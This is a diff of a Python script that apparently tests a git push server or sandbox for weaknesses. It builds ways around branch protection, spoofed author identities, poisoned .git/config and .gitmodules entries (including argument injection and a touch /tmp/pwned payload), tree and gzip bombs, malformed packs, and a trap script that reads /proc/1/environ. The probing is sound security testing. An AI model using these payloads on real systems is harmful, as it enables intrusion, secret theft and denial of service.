@@ -60,11 +60,23 @@ def branches(given):
         "refs/heads/MAIN",
     )
     ways = [(ref, lambda to=ref: pushed(mine, to)) for ref in refs]
-    ways += [("delete", lambda: pushed("", f"refs/heads/{own}") if git("push", "origin", f"{head}:refs/heads/{own}", fails=False) else ""),
-             ("back", lambda: pushed("HEAD~1", f"refs/heads/{own}", "--force")),
-             ("mirror", lambda: git("push", "--mirror", "origin")),
-             ("two at once", lambda: git("push", "--atomic", "origin", f"{mine}:refs/heads/{own}", f"{mine}:refs/heads/main")),
-             ("tags", lambda: git("tag", "-f", "trick") or git("push", "--tags", "origin"))]  # fmt: skip
+    ways += [
+        (
+            "delete",
+            lambda: (
+                pushed("", f"refs/heads/{own}")
+                if git("push", "origin", f"{head}:refs/heads/{own}", fails=False)
+                else ""
+            ),
+        ),
+        ("back", lambda: pushed("HEAD~1", f"refs/heads/{own}", "--force")),
+        ("mirror", lambda: git("push", "--mirror", "origin")),
+        (
+            "two at once",
+            lambda: git("push", "--atomic", "origin", f"{mine}:refs/heads/{own}", f"{mine}:refs/heads/main"),
+        ),
+        ("tags", lambda: git("tag", "-f", "trick") or git("push", "--tags", "origin")),
+    ]
     return each(ways)
 
 
@@ -106,24 +118,28 @@ def authors(given):
         )
         return done.stdout.decode().strip()
 
-    return each([
-        ("both", lambda: pushed(committed_by(env_email, env_email), own)), ("author", lambda: pushed(committed_by(env_email, me), own)),
-        ("committer", lambda: pushed(committed_by(me, env_email), own)),
-        ("co-author", lambda: pushed(commit_of({}, trailer, me), own)),
-        ("co-author in capitals", lambda: pushed(commit_of({}, trailer.replace("Co-authored-by: ", "CO-AUTHORED-BY:"), me), own)),
-        ("hidden below", lambda: pushed(commit_of({}, email=me, parent=committed_by(env_email, env_email)), own)),
-    ])  # fmt: skip
+    return each(
+        [
+            ("both", lambda: pushed(committed_by(env_email, env_email), own)),
+            ("author", lambda: pushed(committed_by(env_email, me), own)),
+            ("committer", lambda: pushed(committed_by(me, env_email), own)),
+            ("co-author", lambda: pushed(commit_of({}, trailer, me), own)),
+            (
+                "co-author in capitals",
+                lambda: pushed(commit_of({}, trailer.replace("Co-authored-by: ", "CO-AUTHORED-BY:"), me), own),
+            ),
+            ("hidden below", lambda: pushed(commit_of({}, email=me, parent=committed_by(env_email, env_email)), own)),
+        ]
+    )
 
 
 def bad_trees(given):
-    """Push what would run or break elsewhere: workflows, .git/config, .gitmodules, odd names, large and endless files."""
+    """Push what would run or break elsewhere: workflows, .git/config, .gitmodules, odd names, endless files."""
     me, own = git("config", "user.email"), f"refs/heads/{given['branch']}"
     blob = git("hash-object", "-w", "--stdin", stdin=b"[core]\n\tsshCommand = touch /tmp/pwned\n")
     folder = git("mktree", stdin=f"100644 blob {blob}\tconfig\n".encode())
-    flow = git(
-        "mktree",
-        stdin=f"040000 tree {git('mktree', stdin=f'100644 blob {blob}'.encode() + b'	x.yml' + chr(10).encode())}\tworkflows\n".encode(),
-    )
+    flows = git("mktree", stdin=f"100644 blob {blob}\tx.yml\n".encode())
+    flow = git("mktree", stdin=f"040000 tree {flows}\tworkflows\n".encode())
     modules = git("hash-object", "-w", "--stdin", stdin=b'[submodule "x"]\n\tpath = x\n\turl = -u./payload\n')
     climbing = git(
         "hash-object", "-w", "--stdin", stdin=b'[submodule "../../x"]\n\tpath = x\n\turl = https://e.test/x\n'
@@ -146,15 +162,23 @@ def bad_trees(given):
             tree = raw_tree([("40000", f"d{n}", tree) for n in range(10)])
         return must(blob_tree) and pushed(commit(tree), own) and must("", "taken, and harmless: nothing walks it")
 
-    return each([
-        ("workflow", tree_with("40000", ".github", flow)), (".git", tree_with("40000", ".git", folder)),
-        (".GIT", tree_with("40000", ".GIT", folder)), ("git~1", tree_with("40000", "git~1", folder)),
-        (".gitmodules url", tree_with("100644", ".gitmodules", modules)), (".gitmodules name", tree_with("100644", ".gitmodules", climbing)),
-        (".gitmodules link", tree_with("120000", ".gitmodules", blob)), ("..", tree_with("40000", "..", folder)),
-        ("slash", tree_with("100644", "a/b", blob)), ("empty", tree_with("100644", "", blob)),
-        ("unsorted", lambda: pushed(commit(raw_tree([("100644", "b", blob), ("100644", "a", blob)])), own)),
-        ("bomb", bomb), ("tree bomb", many),
-    ])  # fmt: skip
+    return each(
+        [
+            ("workflow", tree_with("40000", ".github", flow)),
+            (".git", tree_with("40000", ".git", folder)),
+            (".GIT", tree_with("40000", ".GIT", folder)),
+            ("git~1", tree_with("40000", "git~1", folder)),
+            (".gitmodules url", tree_with("100644", ".gitmodules", modules)),
+            (".gitmodules name", tree_with("100644", ".gitmodules", climbing)),
+            (".gitmodules link", tree_with("120000", ".gitmodules", blob)),
+            ("..", tree_with("40000", "..", folder)),
+            ("slash", tree_with("100644", "a/b", blob)),
+            ("empty", tree_with("100644", "", blob)),
+            ("unsorted", lambda: pushed(commit(raw_tree([("100644", "b", blob), ("100644", "a", blob)])), own)),
+            ("bomb", bomb),
+            ("tree bomb", many),
+        ]
+    )
 
 
 def bad_packs(given):
@@ -186,18 +210,26 @@ def bad_packs(given):
     huge = pack + bytes([0xB0 | 0x0F]) + b"\xff\xff\xff\xff\x0f" + zlib.compress(bytes(1 << 20))
     zip_bomb = zlib.compressobj(9, zlib.DEFLATED, 31)
     packed = b"".join(zip_bomb.compress(bytes(1 << 20)) for _ in range(700)) + zip_bomb.flush()
-    return each([
-        ("no pack", lambda: push(command)), ("cut", lambda: push(command + pack)), ("noise", lambda: push(command + os.urandom(4000))),
-        ("many objects", lambda: push(command + b"PACK" + struct.pack(">II", 2, 0xFFFFFFFF))), ("huge object", lambda: push(command + huge)),
-        ("gzip bomb", lambda: push(packed, "gzip")), ("no end of commands", lambda: push(line(f"{zero} {new} {own}\0") * 20000)),
-        ("bad line", lambda: push(b"zzzz")), ("long line", lambda: push(b"ffff" + b"a" * 70000)),
-        ("shallow", lambda: push(line(f"shallow {head}") + command)), ("certificate", lambda: push(line("push-cert\0") + command)),
-        ("name with a newline", lambda: push(line(f"{zero} {new} refs/heads/a\nb\0report-status") + b"0000")),
-    ])  # fmt: skip
+    return each(
+        [
+            ("no pack", lambda: push(command)),
+            ("cut", lambda: push(command + pack)),
+            ("noise", lambda: push(command + os.urandom(4000))),
+            ("many objects", lambda: push(command + b"PACK" + struct.pack(">II", 2, 0xFFFFFFFF))),
+            ("huge object", lambda: push(command + huge)),
+            ("gzip bomb", lambda: push(packed, "gzip")),
+            ("no end of commands", lambda: push(line(f"{zero} {new} {own}\0") * 20000)),
+            ("bad line", lambda: push(b"zzzz")),
+            ("long line", lambda: push(b"ffff" + b"a" * 70000)),
+            ("shallow", lambda: push(line(f"shallow {head}") + command)),
+            ("certificate", lambda: push(line("push-cert\0") + command)),
+            ("name with a newline", lambda: push(line(f"{zero} {new} refs/heads/a\nb\0report-status") + b"0000")),
+        ]
+    )
 
 
 def settings_for_others(_given):
-    """Leave settings, hooks, filters, attributes and links in the repository and the home, for whoever runs git next."""
+    """Leave settings, hooks, filters, attributes and links in the repository and the home, for the next git."""
     trap = "#!/bin/sh\nid >>/tmp/trap; cat /proc/1/environ >>/tmp/trap 2>&1; echo trapped $0 >>/work/home/trapped\n"
     os.makedirs("/work/home/bin", exist_ok=True)
     for path in (
